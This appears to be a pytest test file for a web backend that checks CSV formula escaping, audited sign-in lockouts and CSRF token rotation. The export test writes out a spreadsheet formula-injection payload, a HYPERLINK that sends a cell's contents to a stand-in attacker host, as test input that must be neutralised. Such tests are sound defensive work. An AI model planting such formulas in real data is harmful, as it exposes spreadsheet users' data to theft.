"""Limits that say how long, audited sign-in failures, formula-safe CSV, CSRF bound to the
session (issue 15 point 6)."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from sqlalchemy import select

from backend.audit.models import AuditEntry
from backend.core.csvexport import safe_cell, safe_writer
from backend.partner import limits
from tests.helpers import post_form, post_json, sign_in_as


@pytest.fixture(autouse=True)
def _generous_ip_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    """All tests sign in from "testclient" into a shared Redis: lift the per-IP limit."""
    monkeypatch.setitem(limits.LIMITS, "signin_ip", 100_000)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+2", "'+1+2"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("王秀英", "王秀英"),
        (12, 12),
    ],
)
def test_safe_cell(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def test_safe_writer_escapes_every_cell() -> None:
    out = io.StringIO()
    safe_writer(out).writerow(["=1+1", "ok", "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "ok", "'@x"]


async def test_household_export_escapes_formulas(
    client: Any, runtime: Any, demo: dict[str, Any]
) -> None:
    from datetime import date

    from backend.privacy.idcard import make_fake_id

    await sign_in_as(client, runtime, demo["caseworker"])
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    r = await post_json(
        client,
        "/api/v1/households",
        {
            "head_name": formula,
            "id_number": make_fake_id("330106", date(1960, 5, 6), 321),
            "address": "+杭州市",
            "region_code": "330106004",
            "category": "dibao",
            "member_ages": [60],
        },
    )
    assert r.status_code == 201, r.text
    export = await post_form(client, "/households/export", {})
    assert export.status_code == 200, export.text[:300]
    cells = [c for row in csv.reader(io.StringIO(export.text)) for c in row]
    assert "'" + formula in cells
    assert formula not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "no-store" in export.headers["cache-control"]


async def _audit_actions(runtime: Any, object_prefix: str) -> list[str]:
    async with runtime.sessionmaker() as session:
        rows = await session.scalars(
            select(AuditEntry.action)
            .where(AuditEntry.object_id.like(object_prefix + "%"))
            .order_by(AuditEntry.occurred_at)
        )
        return list(rows)


async def test_failed_sign_ins_and_the_lockout_are_audited_with_retry_after(
    client: Any, runtime: Any, demo_users: dict[str, tuple[str, str]], demo: dict[str, Any]
) -> None:
    email = f"nobody-{uuid.uuid4().hex[:8]}@example.org"
    statuses = []
    for _ in range(5):
        r = await post_form(client, "/signin", {"email": email, "password": "wrong-password"})
        statuses.append(r.status_code)
    assert statuses[:4] == [422] * 4
    assert statuses[4] == 429
    assert int(r.headers["retry-after"]) > 0
    again = await post_form(client, "/signin", {"email": email, "password": "wrong-password"})
    assert again.status_code == 429
    assert int(again.headers["retry-after"]) > 0
    actions = await _audit_actions(runtime, "unknown:")
    tail = actions[-6:]
    assert tail == ["user.sign_in_failed"] * 4 + ["user.locked_out", "user.sign_in_refused_locked"]
    async with runtime.sessionmaker() as session:
        details = (
            await session.scalars(
                select(AuditEntry.detail).where(AuditEntry.action == "user.locked_out")
            )
        ).all()
    assert all(email not in str(d) for d in details)  # the address is never written

    # a known account is named by its id
    known_email, _ = demo_users["volunteer"]
    await post_form(client, "/signin", {"email": known_email, "password": "wrong-password"})
    assert "user.sign_in_failed" in await _audit_actions(runtime, str(demo["volunteer"]))
    await runtime.services.login_lockout.reset(known_email)


async def test_csrf_token_is_bound_to_the_session_and_rotated_at_sign_in(
    client: Any, runtime: Any, demo_users: dict[str, tuple[str, str]]
) -> None:
    email, password = demo_users["donor"]
    await runtime.services.login_lockout.reset(email)
    await client.get("/signin")
    before = client.cookies.get("tx_csrf")
    assert before
    r = await post_form(client, "/signin", {"email": email, "password": password})
    assert r.status_code == 303, r.text[r.text.find("<main") :][:1500]
    after = client.cookies.get("tx_csrf")
    assert after and after != before, "a fresh CSRF token at sign-in"
    ok = await client.post(
        "/profile",
        data={"display_name": "周捐赠", "locale": "zh_CN", "_csrf_token": after},
        follow_redirects=False,
    )
    assert ok.status_code == 303, ok.text[:300]
    # the token from before the sign-in (e.g. planted by someone else) no longer works
    client.cookies.set("tx_csrf", before)
    refused = await client.post(
        "/profile",
        data={"display_name": "x", "locale": "zh_CN", "_csrf_token": before},
        follow_redirects=False,
    )
    assert refused.status_code == 403
